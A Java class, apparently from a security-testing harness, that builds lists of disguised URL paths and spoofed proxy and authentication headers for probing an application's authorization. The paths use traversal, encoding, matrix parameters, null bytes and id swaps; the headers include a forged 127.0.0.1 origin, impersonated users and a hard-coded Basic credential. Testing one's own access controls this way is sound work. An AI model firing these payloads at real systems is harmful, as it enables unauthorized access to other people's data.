package org.sangathan.attack;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/// An address written so that one reader may take it for another than the next reader does.
final class Disguise {
  private static final List<String> ENDS =
      List.of(
          "/",
          "//",
          "/.",
          "/..;/",
          ".",
          "%20",
          "%09",
          "%00",
          "%2f",
          "%5c",
          ";a=b",
          ";jsessionid=1",
          ".json",
          ".html",
          "?",
          "#",
          "%23",
          "%3f",
          "~",
          "%ef%bb%bf");
  private static final List<String> OPEN =
      List.of(
          "/static/..",
          "/static/..;",
          "/static/%2e%2e",
          "/static/..%2f",
          "/static/%252e%252e",
          "/webjars/..",
          "/webjars/..;a",
          "/webjars/%c0%ae%c0%ae",
          "/v3/api-docs/..",
          "/sign-in/..",
          "/sign-in/..;",
          "/actuator/health/..",
          "/actuator/health/..;",
          "/error/..",
          "/open/..",
          "/.",
          "/;",
          "/%2e",
          "/\\");

  private Disguise() {}

  /// @param unit that stands in the path
  /// @param own where the asker may look
  static List<String> of(String path, String unit, String own) {
    List<String> all = new ArrayList<>(List.of(path));
    for (String end : ENDS) all.add(path + end);
    for (String open : OPEN) all.add(open + path);
    all.add("/" + path);
    all.add(path.replace("/", "//"));
    all.add(path.replace("/", "/./"));
    all.add(path.replace("/", "%2f"));
    all.add(path.replace("/", "\\"));
    all.add(path.toUpperCase(Locale.ROOT));
    all.add(path.toLowerCase(Locale.ROOT));
    all.add(path.replace("u", "%75"));
    all.add(path.replace("u", "%2575"));
    all.add("http://localhost" + path);
    all.add("http://elsewhere" + path);
    String in = "/" + unit;
    for (String as :
        List.of(
            own + "/.." + in,
            own + "/%2e%2e" + in,
            own + "/%252e%252e" + in,
            own + "/%c0%ae%c0%ae" + in,
            own + "/..;" + in,
            own + "%2f.." + in,
            own + ";" + unit,
            unit + ";" + own,
            unit + "%00" + own,
            own + "%00" + unit,
            unit + "," + own,
            own + "," + unit,
            unit + "%20",
            "%20" + unit,
            unit.toLowerCase(Locale.ROOT),
            encoded(unit),
            unit + "%0d%0a")) all.add(path.replace(in, "/" + as));
    String mine = path.replace(in, "/" + own);
    for (String name : List.of("code", "unit", "at"))
      all.addAll(
          List.of(
              path + "?" + name + "=" + own,
              mine + "?" + name + "=" + unit,
              mine + "?" + name + "=" + own + "&" + name + "=" + unit,
              mine + "?" + name + "=" + unit + "&" + name + "=" + own));
    all.add(path + "?_method=GET");
    all.add(path + "?format=json");
    return all;
  }

  private static String encoded(String text) {
    StringBuilder all = new StringBuilder();
    text.chars().forEach(c -> all.append("%%%02x".formatted(c)));
    return all.toString();
  }

  /// What a proxy might have said, or somebody who pretends to be one.
  static List<String> headers(String path) {
    return List.of(
        "X-Original-URL: " + path + "\r\n",
        "X-Rewrite-URL: " + path + "\r\n",
        "X-Forwarded-Prefix: " + path + "\r\n",
        "X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n",
        "X-Forwarded-Host: elsewhere.example\r\nX-Forwarded-Proto: https\r\n",
        "Forwarded: for=127.0.0.1;host=elsewhere.example\r\n",
        "X-Forwarded-User: office\r\nX-Remote-User: office\r\nRemote-User: office\r\n",
        "Authorization: Basic b2ZmaWNlOnRocmVlIGNhbG0gcml2ZXJz\r\n",
        "Authorization: Bearer null\r\n",
        "Cookie: session=AAAA; JSESSIONID=1\r\n",
        "X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: PUT\r\n",
        "Referer: http://localhost/u/N\r\nOrigin: null\r\n",
        "HX-Request: true\r\nHX-Target: main\r\nHX-Current-URL: " + path + "\r\n",
        "Range: bytes=0-10\r\nIf-None-Match: *\r\n",
        "Accept: application/octet-stream\r\n");
  }
}
